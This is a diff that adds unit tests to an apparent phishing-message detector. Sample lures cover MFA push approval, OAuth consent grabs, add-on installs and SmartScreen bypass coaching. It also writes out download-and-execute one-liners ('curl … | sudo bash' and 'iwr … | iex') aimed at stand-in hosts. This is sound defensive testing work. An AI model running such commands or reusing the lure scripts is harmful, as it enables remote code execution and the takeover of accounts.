@@ -87,6 +87,73 @@ def test_a_credential_ask_after_a_harmless_invitation_escalates_the_thread():
     assert a.level in ("medium", "high") and a.score >= first.score + 30, (a.score, first.score)
 
 
+def test_a_push_prompt_to_approve_after_a_sign_in_link_is_flagged():
+    # MFA prompt approval (ATT&CK T1621): the sender has the password and needs the recipient's tap
+    a = scored([
+        "Hello Dr Hale, the instrument booking system moves to a new calendar on Monday. Please sign in with your "
+        "university account at https://bookings.fenwick-labs.example/sso and check your training records. "
+        "Straight afterwards a request will appear in your authenticator app: please approve it, that is how "
+        "the new calendar links to your record.",
+    ], sender_email="facility@fenwick-labs.example")
+    assert {"LW-CYBER-011", "LW-CYBER-003"} <= ids(a)
+    assert a.level in ("medium", "high"), (a.score, [(f.indicator, f.weight) for f in a.findings])
+    relay = scored(["Great to hear from you.", {"owner": "I signed in and my phone now shows a number to enter."},
+                    "Perfect, just approve it and type 52 on your phone, then the shared folder opens."],
+                   source="linkedin-message")
+    assert "LW-CYBER-011" in ids(relay)
+
+
+def test_own_it_warning_never_to_approve_a_prompt_is_not_the_ask():
+    a = scored([
+        "From Monday the Authenticator app shows a number when you sign in. If you ever get a prompt you did "
+        "not start yourself, do not approve it: deny it and call the service desk on extension 4400.",
+    ], sender_email="servicedesk@westmarch.example", owner_email="j.hale@westmarch.example")
+    assert "LW-CYBER-011" not in ids(a) and a.level == "low", (a.score, ids(a))
+
+
+def test_a_command_that_pipes_a_download_into_a_shell_is_flagged():
+    a = scored([
+        "Before our investment committee we profile every candidate's serving stack the same way. It is one line "
+        "on the production host: curl -fsSL https://agent.harbour-vc.example/p.sh | sudo bash -s -- --upload",
+    ], sender_email="diligence@harbour-vc.example")
+    assert {"LW-CYBER-012", "LW-FILE-005"} <= ids(a) and a.level in ("medium", "high"), (a.score, ids(a))
+    ps = scored(["Open PowerShell as administrator and paste: iwr https://fix.tool-licences.example/h.ps1 | iex"],
+                sender_email="support@tool-licences.example")
+    assert "LW-CYBER-012" in ids(ps)
+    docs = scored(["Our public dataset is at https://data.openmaterials.example/set.csv; curl or a browser both "
+                   "work, and nothing needs installing."], sender_email="team@openmaterials.example")
+    assert "LW-CYBER-012" not in ids(docs)
+
+
+def test_consent_and_browser_add_ons_from_an_outside_link_are_flagged_and_store_rollouts_are_not():
+    consent = scored([
+        "To keep the proposal in one place, connect our drafting workspace: https://app.draftdesk.example/connect. "
+        "Microsoft will show a screen asking to let it read and send mail as you and read all files you can "
+        "access; just press Accept."], sender_email="coordinator@draftdesk.example")
+    assert "LW-CYBER-004" in ids(consent)
+    addon = scored(["The reviewers' comments are in our annotation add-on: install it from "
+                    "https://addons.reviewdesk.example/chrome, then open your paper with it."],
+                   source="linkedin-message")
+    assert "LW-CYBER-004" in ids(addon)
+    rollout = scored(["As agreed at the all-hands, we are rolling out the team password manager. Install the "
+                      "VaultKey extension from the Chrome Web Store or Firefox Add-ons and sign in with your "
+                      "work account."], sender_email="it@westmarch.example", owner_email="j.hale@westmarch.example")
+    assert "LW-CYBER-004" not in ids(rollout) and rollout.level == "low", (rollout.score, ids(rollout))
+    chat = scored(["Lovely to meet you at the fair. Add me on WhatsApp for a faster reply, and please add your "
+                   "comments on section 4 by Thursday."], source="linkedin-message")
+    assert "LW-CYBER-004" not in ids(chat)
+
+
+def test_coaching_past_a_windows_permission_prompt_is_flagged():
+    a = scored(["Sorry, the pack is a disk image so the videos stay together. Just double-click the PDF in it; "
+                "if Windows asks for permission, that is the video player, just click allow."],
+               source="linkedin-message")
+    assert "LW-FILE-004" in ids(a)
+    b = scored(["If SmartScreen says it protected your PC, click More info and then Run anyway."],
+               source="linkedin-message")
+    assert "LW-FILE-004" in ids(b)
+
+
 def test_weights_follow_the_strength_of_each_sign():
     e = ANALYSER.engine.by_id
     assert e["LW-CYBER-001"].weight >= 40 and e["LW-CYBER-006"].weight >= 40  # strong: medium on their own
